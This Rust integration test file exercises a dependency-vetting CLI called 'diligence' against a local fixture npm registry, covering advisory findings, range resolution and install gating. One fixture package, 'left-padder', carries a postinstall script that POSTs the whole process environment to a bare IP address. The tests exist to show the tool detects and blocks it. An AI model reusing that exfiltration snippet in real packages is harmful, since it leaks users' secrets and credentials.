//! `diligence check` and `diligence install` end to end against a fixture registry on
//! 127.0.0.1 (tests/support/fixture_registry.rs), with the OSV snapshot of the shared corpus as
//! the advisory database. `install` runs the real npm (planning with `--package-lock-only
//! --ignore-scripts`, then the install when the gate lets it through); the malicious fixture is
//! never installed, so its code never runs.

mod support {
    pub mod fixture_registry;
}

use assert_cmd::Command;
use serde_json::Value;
use std::path::{Path, PathBuf};
use support::fixture_registry::{FixtureRegistry, FixtureVersion};

fn osv_db() -> PathBuf {
    diligence_testkit::corpus("advisories/osv")
        .expect("shared corpus: the test calls corpus_or_skip! first")
}

/// express 4.18.2 with a trimmed version of its real dependency tree (same names, ranges and
/// locked versions for these packages), plus lodash and a malicious package.
fn registry() -> FixtureRegistry {
    let v = FixtureVersion::new;
    let versions = vec![
        v("express", "4.17.3", &[("accepts", "~1.3.8"), ("debug", "2.6.9")]),
        v("express", "5.0.0-beta.1", &[("accepts", "~1.3.8")]),
        v(
            "express",
            "4.18.2",
            &[
                ("accepts", "~1.3.8"),
                ("cookie", "0.5.0"),
                ("debug", "2.6.9"),
                ("path-to-regexp", "0.1.7"),
            ],
        ),
        v("accepts", "1.3.8", &[("mime-types", "~2.1.34"), ("negotiator", "0.6.3")]),
        v("mime-types", "2.1.34", &[("mime-db", "1.51.0")]),
        v("mime-types", "2.1.35", &[("mime-db", "1.52.0")]),
        v("mime-db", "1.51.0", &[]),
        v("mime-db", "1.52.0", &[]),
        v("negotiator", "0.6.3", &[]),
        v("cookie", "0.5.0", &[]),
        v("debug", "2.6.9", &[("ms", "2.0.0")]),
        v("ms", "2.0.0", &[]),
        v("ms", "2.1.3", &[]),
        v("path-to-regexp", "0.1.7", &[]),
        v("lodash", "4.17.21", &[]),
        v("left-padder", "1.0.0", &[]).script("postinstall", "node setup.js").file(
            "setup.js",
            "const https = require('https');\n\
             const body = JSON.stringify(process.env);\n\
             const req = https.request({ hostname: '45.77.12.9', path: '/collect', method: 'POST' });\n\
             req.write(body);\n\
             req.end();\n",
        ),
        v("half-there", "1.0.0", &[])
            .file("lib/big.js", &"module.exports.x = 1;\n".repeat(2000))
            .truncated(300),
    ];
    FixtureRegistry::start(
        &versions,
        &[
            ("express", "latest", "4.18.2"),
            ("express", "next", "5.0.0-beta.1"),
        ],
    )
}

/// A project folder whose `.npmrc` points at the fixture registry.
fn project(reg: &FixtureRegistry) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".npmrc"), format!("registry={}\n", reg.url)).unwrap();
    std::fs::write(
        dir.path().join("package.json"),
        "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n  \"private\": true\n}\n",
    )
    .unwrap();
    dir
}

/// The binary with a private cache and npm kept away from the user's cache and config.
fn diligence(home: &Path) -> Command {
    let mut cmd = Command::cargo_bin("diligence").unwrap();
    cmd.env("DILIGENCE_CACHE_DIR", home.join("diligence-cache"))
        .env("npm_config_cache", home.join("npm-cache"))
        .env("npm_config_userconfig", home.join("npmrc"))
        .env("npm_config_update_notifier", "false")
        .env("npm_config_fetch_retries", "0")
        .env("NO_COLOR", "1");
    cmd
}

fn check_json(reg: &FixtureRegistry, spec: &str, extra: &[&str]) -> (i32, Value) {
    let proj = project(reg);
    let out = diligence(proj.path())
        .arg("check")
        .arg(spec)
        .arg("--dir")
        .arg(proj.path())
        .arg("--db")
        .arg(osv_db())
        .args(["--format", "json"])
        .args(extra)
        .output()
        .unwrap();
    let json: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code().unwrap(), json)
}

fn finding_ids(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {} {}@{}",
                f["severity"].as_str().unwrap(),
                f["rule"].as_str().unwrap(),
                f["package"]["name"].as_str().unwrap_or(""),
                f["package"]["version"].as_str().unwrap_or("")
            )
        })
        .collect()
}

#[test]
fn check_express_vets_the_whole_closure() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let (code, report) = check_json(&reg, "express@4.18.2", &[]);
    assert_eq!(report["target"]["path"], "express@4.18.2");
    // express, accepts, cookie, debug, path-to-regexp, mime-types 2.1.35 (highest in ~2.1.34),
    // negotiator, mime-db 1.52.0, ms 2.0.0.
    assert_eq!(report["summary"]["packages"], 9);
    assert_eq!(report["not_evaluated"], serde_json::json!([]));
    assert_eq!(
        finding_ids(&report),
        ["high advisory/vulnerability path-to-regexp@0.1.7"]
    );
    let f = &report["findings"][0];
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("GHSA-9wv6-86v2-598j"),
        "{f}"
    );
    let message = f["message"].as_str().unwrap();
    assert!(
        message.ends_with("fixed in 0.1.10; via express@4.18.2 > path-to-regexp@0.1.7"),
        "{message}"
    );
    assert_eq!(code, 1);

    let (code, report) = check_json(&reg, "express@4.18.2", &["--fail-on", "critical"]);
    // Seen once as 2 in a full-suite run (not reproduced alone): say what was not evaluated.
    assert_eq!(code, 0, "not evaluated: {}", report["not_evaluated"]);
}

#[test]
fn check_resolves_ranges_and_dist_tags_like_npm() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let (_, report) = check_json(&reg, "express@^4.17.0", &[]);
    assert_eq!(report["target"]["path"], "express@4.18.2");
    let (_, report) = check_json(&reg, "express@~4.17.0", &[]);
    assert_eq!(report["target"]["path"], "express@4.17.3");
    let (_, report) = check_json(&reg, "express@next", &[]);
    assert_eq!(report["target"]["path"], "express@5.0.0-beta.1");
    let (code, report) = check_json(&reg, "express", &["--no-advisories"]);
    assert_eq!(report["target"]["path"], "express@4.18.2");
    assert_eq!(finding_ids(&report), Vec::<String>::new());
    assert_eq!(code, 0, "not evaluated: {}", report["not_evaluated"]);
}

#[test]
fn check_of_an_unknown_package_is_not_evaluated() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let (code, report) = check_json(&reg, "no-such-package@1", &[]);
    assert_eq!(code, 2);
    let ne = &report["not_evaluated"][0];
    assert_eq!(ne["what"], "dependency resolution of no-such-package");
    assert!(
        ne["why"]
            .as_str()
            .unwrap()
            .contains("not found on the registry"),
        "{ne}"
    );
}

#[test]
fn check_flags_the_malicious_package() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let (code, report) = check_json(&reg, "left-padder", &[]);
    assert_eq!(code, 1);
    assert_eq!(
        finding_ids(&report),
        [
            "critical code/env-exfiltration left-padder@1.0.0",
            // The bare public IP given as the request's host, from install-time code.
            "critical code/suspicious-endpoint left-padder@1.0.0",
            "low metadata/install-script left-padder@1.0.0",
            "info code/install-script left-padder@1.0.0",
        ]
    );
    // At the sink: `req.write(body)` sends the environment serialised on line 2.
    let f = &report["findings"][0];
    assert_eq!(
        (
            f["location"]["file"].as_str(),
            f["location"]["line"].as_u64()
        ),
        (Some("setup.js"), Some(4))
    );
}

fn install(proj: &Path, args: &[&str]) -> std::process::Output {
    diligence(proj)
        .arg("install")
        .arg("--dir")
        .arg(proj)
        .arg("--db")
        .arg(osv_db())
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn install_lodash_with_npm_vets_then_installs() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let proj = project(&reg);
    let out = install(proj.path(), &["--pm", "npm", "lodash"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("`npm install --package-lock-only --ignore-scripts --no-audit --no-fund lodash` would add or change 1 registry package(s)"), "{stderr}");
    let installed =
        std::fs::read_to_string(proj.path().join("node_modules/lodash/package.json")).unwrap();
    assert!(installed.contains("\"version\": \"4.17.21\""));
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(proj.path().join("package.json")).unwrap())
            .unwrap();
    assert_eq!(manifest["dependencies"]["lodash"], "^4.17.21");
}

#[test]
fn install_refuses_findings_without_a_terminal() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let proj = project(&reg);
    let before = std::fs::read_to_string(proj.path().join("package.json")).unwrap();
    let out = install(proj.path(), &["--pm", "npm", "left-padder"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("no terminal to ask; not installing (pass --yes to install anyway)"),
        "{stderr}"
    );
    assert!(!proj.path().join("node_modules").exists());
    assert!(!proj.path().join("package-lock.json").exists());
    assert_eq!(
        std::fs::read_to_string(proj.path().join("package.json")).unwrap(),
        before
    );
}

#[test]
fn install_never_fails_open() {
    diligence_testkit::corpus_or_skip!("advisories");
    // A registry that refuses connections: the plan cannot be made, nothing is installed.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let proj = tempfile::tempdir().unwrap();
    std::fs::write(
        proj.path().join(".npmrc"),
        format!("registry=http://127.0.0.1:{port}/\n"),
    )
    .unwrap();
    std::fs::write(
        proj.path().join("package.json"),
        "{\"name\":\"app\",\"version\":\"1.0.0\"}\n",
    )
    .unwrap();
    let out = install(proj.path(), &["--pm", "npm", "--yes", "lodash"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("1 part(s) could not be vetted; not installing (pass --force-unvetted to install anyway)"), "{stderr}");
    assert!(!proj.path().join("node_modules").exists());
}

#[test]
fn a_partly_readable_tarball_is_not_vetted() {
    diligence_testkit::corpus_or_skip!("advisories");
    let reg = registry();
    let (code, report) = check_json(&reg, "half-there", &[]);
    assert_eq!(code, 2);
    let what: Vec<&str> = report["not_evaluated"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["what"].as_str().unwrap())
        .collect();
    assert_eq!(what, ["code scan of half-there@1.0.0"]);

    let proj = project(&reg);
    let out = install(proj.path(), &["--pm", "npm", "--yes", "half-there"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(!proj.path().join("node_modules").exists());
}
